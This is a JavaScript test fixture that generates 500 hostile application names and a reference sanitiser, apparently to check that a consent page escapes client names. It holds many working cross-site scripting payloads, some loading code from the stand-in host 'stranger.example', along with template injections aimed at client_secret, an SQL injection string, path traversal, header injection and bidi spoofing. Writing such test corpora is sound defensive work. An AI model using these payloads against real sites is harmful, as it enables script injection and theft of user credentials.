// 500 names a hostile client may register under (T6). Every script in them, if it ran, would set `window.ran` or fetch
// from `STRANGER`; `cleaned` says what a page may show of a name.

export const STRANGER = "stranger.example";
export const NAMES = 500;
const MAX_CHARACTERS = 128;
const NAMELESS = "Unknown Application";
const RUN = "window.ran=1";
const SOURCE = `//${STRANGER}/x`;

/** The corpus, each name once. */
export function hostileNames() {
  const names = new Set([...markup(), ...handlers(), ...addresses(), ...templates(), ...entities(), ...endings(), ...invisible(), ...scripts(), ...long()]);
  const base = [...names];
  // What is left are the same with a letter of another kind in front: parsers differ in what may precede a tag.
  const prefixes = ['"', "'", "\u202e", "\u0000", "&", "<", "\u{1f600}", "<!--", "]]>", "</title>", "\r\n\r\n", "א"];
  for (const prefix of prefixes) for (const name of base) if (names.size < NAMES) names.add(prefix + name);
  if (base.length > NAMES || names.size !== NAMES) throw new Error(`the corpus has ${base.length} and ${names.size} names`);
  return [...names];
}

/** Written a second time, from the rule: white space is one space, what has no ink is dropped, a letter has four marks at most, the rest is cut. */
export function cleaned(name) {
  const text = name.replace(/\p{White_Space}/gu, " ").replace(/\p{Cc}|\p{Cf}|\p{Co}|\p{Default_Ignorable_Code_Point}|\u2800/gu, "");
  const marked = text.replace(/(?<=^| )\p{M}+/gu, "").replace(/(\p{M}{4})\p{M}+/gu, "$1");
  const words = marked.split(" ").filter((word) => word !== "").join(" ");
  return [...words].slice(0, MAX_CHARACTERS).join("").trimEnd() || NAMELESS;
}

function markup() {
  return [
    `<script>${RUN}</script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script src=${SOURCE}></script>`,
    `<script type=module>import "${SOURCE}"</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script\t>${RUN}</script\n>`,
    `<script/x>${RUN}</script>`,
    `<img src=${SOURCE}>`,
    `<image href=${SOURCE}>`,
    `<iframe src=${SOURCE}></iframe>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<object data=${SOURCE}></object>`,
    `<embed src=${SOURCE}>`,
    `<link rel=stylesheet href=${SOURCE}>`,
    `<link rel=prefetch href=${SOURCE}>`,
    `<link rel=dns-prefetch href=${SOURCE}>`,
    `<base href=//${STRANGER}/>`,
    `<meta http-equiv=refresh content="0;url=${SOURCE}">`,
    `<style>@import "${SOURCE}";</style>`,
    `<style>*{background:url(${SOURCE})}</style>`,
    `<p style="background:url(${SOURCE})">x`,
    `<form action=${SOURCE}><button>Allow</button></form>`,
    `<button formaction=${SOURCE} name=decision value=allow>Allow</button>`,
    `<input name=csrf value=0>`,
    `<math><mtext><script>${RUN}</script></mtext></math>`,
    `<svg><script href=${SOURCE} /></svg>`,
    `<svg><use href="${SOURCE}#a"/></svg>`,
    `<svg><foreignObject><iframe src=${SOURCE}></iframe></foreignObject></svg>`,
    `<video poster=${SOURCE} src=${SOURCE}></video>`,
    `<audio src=${SOURCE} autoplay></audio>`,
    `<picture><source srcset=${SOURCE}><img></picture>`,
    `<table background=${SOURCE}>`,
    `<body background=${SOURCE}>`,
    `<frameset><frame src=${SOURCE}></frameset>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<portal src=${SOURCE}></portal>`,
    `<plaintext>`,
    `<xmp><script>${RUN}</script></xmp>`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml-stylesheet href="${SOURCE}"?>`,
    `<!DOCTYPE html><script>${RUN}</script>`,
    `<a href="//${STRANGER}/">Contoso</a>`,
    `<b>bold</b><!-- comment`,
    `<dialog open><form method=dialog><button>Allow</button></form></dialog>`,
  ];
}

function handlers() {
  const events = "load error click focus blur mouseover pointerover animationstart animationend transitionend toggle beforetoggle begin end wheel scroll scrollend copy paste input invalid contextmenu auxclick dragstart beforeinput securitypolicyviolation".split(" ");
  const carriers = {
    img: (event) => `<img src=x on${event}=${RUN}>`,
    svg: (event) => `<svg on${event}="${RUN}">`,
    details: (event) => `<details open on${event}='${RUN}'>x</details>`,
    input: (event) => `<input autofocus ON${event}=${RUN}>`,
    quoted: (event) => `" autofocus tabindex=0 on${event}="${RUN}`,
    single: (event) => `' autofocus tabindex=0 on${event}='${RUN}`,
    bare: (event) => `x on${event}=${RUN} `,
    slash: (event) => `<img/src=x/on${event}=${RUN}//`,
  };
  return events.flatMap((event) => Object.values(carriers).map((carrier) => carrier(event)));
}

function addresses() {
  const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "view-source:javascript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "blob:", `//${STRANGER}/`, `https://${STRANGER}/`];
  return schemes.flatMap((scheme) => [`${scheme}${RUN}`, `<a href="${scheme}${RUN}">Allow</a>`, `<iframe src="${scheme}${RUN}">`]);
}

function templates() {
  const code = ["7*7", "constructor.constructor('window.ran=1')()", "$on.constructor('window.ran=1')()", "client_secret", "page.csrf"];
  const around = [["{{", "}}"], ["{{{", "}}}"], ["${", "}"], ["#{", "}"], ["<%=", "%>"], ["{%", "%}"], ["[[", "]]"], ["@(", ")"], ["{#", "#}"], ["`${", "}`"]];
  return around.flatMap(([open, close]) => code.map((each) => `${open} ${each} ${close}`));
}

function entities() {
  const tag = `<img src=x onerror=${RUN}>`;
  const each = (form) => [...tag].map(form).join("");
  return [
    tag.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    tag.replaceAll("<", "&amp;lt;"),
    tag.replaceAll("<", "&LT").replaceAll(">", "&GT"),
    each((character) => `&#${character.codePointAt(0)};`),
    each((character) => `&#x${character.codePointAt(0).toString(16)}`),
    each((character) => `%${character.codePointAt(0).toString(16)}`),
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `\\x3cscript\\x3e${RUN}`,
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `\u2039script\u203a${RUN}`,
    `\u02bascript\u02b9`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\u00bcscript\u00be${RUN}`,
    "&nbsp;&shy;&zwj;&rlm;&#x202e;",
    "&amp;&amp;amp;&ampamp;",
    "&quot; onfocus=1 x=&quot;",
    "&#0;&#x110000;&#xd800;",
  ];
}

/** Ends what the name might stand in. */
function endings() {
  const stands = ["</bdi>", "</h1>", "</title>", "</style>", "</textarea>", "</script>", "-->", "]]>", '">', "'>", "`>", "\\\">", "*/", "</body></html>", "\u0000>"];
  return stands.flatMap((end) => [`${end}<script>${RUN}</script>`, `${end}<img src=${SOURCE}>`]);
}

function invisible() {
  const marks = [..."\u0000\u0007\u0008\u001b\u007f\u0085\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\u206a\u2800\u3164\ufe0f\ufeff\uffa0\u{e0001}\u{e0041}\u{e000}\u{f0000}\u{1d173}"];
  return [...marks.map((mark) => `Con${mark}toso`), ...marks.slice(0, 12).map((mark) => `${mark}<script${mark}>${RUN}</script>`), marks.join(""), "\u202egnp.exe", "\u2066\u202eTrusted\u2069"];
}

function scripts() {
  return ["עברית <b>לקוח</b>", "مرحبا \"بالعالم\"", "漢字クライアント", "हिन्दी", "👩‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag", "e\u0301\u0301\u0301\u0301", `Con${"\u0301\u0335".repeat(40)}toso`, `${"\u0336".repeat(9)} Contoso`, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a", "Ⅿicrosoft", "Μicrosoft", "null", "undefined", "NaN", "[object Object]", "__proto__", "true", "0", " ", "\t\r\n", "'; DROP TABLE clients; --", "../../etc/passwd", "%00", "%s%n", "Set-Cookie: a=b\r\nX: y", "\"", "'", "<", ">", "&", "\\", "`", "<>", "</", "<!", "<?"];
}

function long() {
  return ["A".repeat(129), "é".repeat(500), "👾".repeat(200), "<b>".repeat(100), "\u202e".repeat(300), "W".repeat(4000), `${"x".repeat(120)}<script>${RUN}</script>`, `${"x".repeat(127)}<`, " a".repeat(300), "&amp;".repeat(60)];
}
